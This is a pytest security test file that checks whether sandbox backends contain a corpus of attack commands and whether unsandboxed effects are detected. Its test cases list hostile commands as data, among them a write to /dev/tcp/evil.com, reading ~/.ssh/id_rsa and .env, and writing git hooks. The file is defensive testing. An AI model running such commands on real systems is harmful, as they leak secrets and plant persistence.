"""Were the classifier wrong about every attack, the sandbox would still hold them all."""

from __future__ import annotations

import os
from collections.abc import Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.security.commands.corpus import fixture_cases, listed
from tests.security.figures import Figure, Measured
from tests.security.forced import Scene, offenders, set_scene
from winx_tui.security.sandbox.detect import best_sandbox, sandbox_report

pytestmark = [pytest.mark.security, pytest.mark.timeout(400)]

SAMPLED = 4
"""Of so many attacks one is tried in a sandbox that is not the best one here."""
SCENES = 8
"""At once: more than processors, for some attacks only wait."""


@pytest.fixture(scope="module")
def attacks() -> tuple[str, ...]:
    """Return all that must not run by itself."""
    asking = (case.command for case in fixture_cases() if case.verdict != "safe_readonly")
    found = dict.fromkeys((*asking, *listed("attacks"), *listed("dangers")))
    # No program can be given one, in no shell.
    return tuple(command for command in found if "\0" not in command)


def at_large(attacks: Sequence[str], backend: str, profile: str) -> dict[str, str]:
    """Run all attacks, and return those that did something."""

    def run(number: int) -> dict[str, str]:
        with set_scene(backend, profile) as scene:
            return offenders(attacks[number::SCENES], scene)

    with ThreadPoolExecutor(SCENES) as pool:
        return dict(item for part in pool.map(run, range(SCENES)) for item in part.items())


@pytest.mark.parametrize("profile", ["read-only", "workspace-write"])
@pytest.mark.parametrize("backend", ["bubblewrap", "landlock"])
def test_attacks_that_are_let_run_do_nothing(
    attacks: tuple[str, ...], backend: str, profile: str, measured: Measured
) -> None:
    check = next(check for check in sandbox_report() if check.name == backend)
    if not check.works:
        pytest.skip(f"{backend} does not work on this machine: {check.reason}")
    if best_sandbox().name != backend and not os.environ.get("WINX_EXPLORE"):
        # Not what commands run in here; all of them take as long again.
        attacks = attacks[::SAMPLED]
    found = at_large(attacks, backend, profile)
    writes = Figure.FORCED_WRITES if profile == "read-only" else Figure.FORCED_WRITES_OUTSIDE
    kinds = {writes: "wrote", Figure.FORCED_PACKETS: "sent", Figure.FORCED_SECRETS: "read"}
    for figure, kind in kinds.items():
        told = [item for item in found.items() if kind in item[1]]
        measured(figure, len(told), len(attacks), told)


@pytest.fixture(scope="module", params=["read-only", "workspace-write"])
def open_scene(request: pytest.FixtureRequest) -> Iterator[Scene]:
    """Yield a scene without a sandbox; what was done in it before is no news to it."""
    with set_scene("none", request.param) as scene:
        yield scene


@pytest.mark.parametrize(
    ("command", "did"),
    [
        ("touch ~/new", "wrote"),
        ("touch ../new", "wrote"),
        ("echo x >> .git/config", "wrote"),
        ("echo x > .git/hooks/pre-commit", "wrote"),
        ("mkdir .git/new; rmdir .git/new", "wrote"),
        ("echo x >> .envrc", "wrote"),
        ("curl -s http://example.com/x", "sent"),
        ("echo x > /dev/tcp/evil.com/80", "sent"),
        ("echo x > /dev/udp/10.0.0.1/53", "sent"),
        ("cat ~/.ssh/id_rsa", "read"),
        ("base64 .env", "read"),
        ("(cat .env > /dev/null) & wait", "read"),
    ],
)
def test_without_a_sandbox_it_is_noticed(open_scene: Scene, command: str, did: str) -> None:
    assert not open_scene.effects(["ls", "cat README.md"])
    assert any(told.startswith(did) for told in open_scene.effects([command]))


def test_who_has_done_it_is_found() -> None:
    with set_scene("none", "read-only") as scene:
        assert list(offenders(["ls", "cat .env", "pwd"], scene)) == ["cat .env"]


def test_in_the_workspace_much_may_be_written_but_not_by_those_who_only_read() -> None:
    for profile, is_told in (("read-only", True), ("workspace-write", False)):
        with set_scene("none", profile) as scene:
            assert bool(scene.effects(["echo x > src/new"])) is is_told
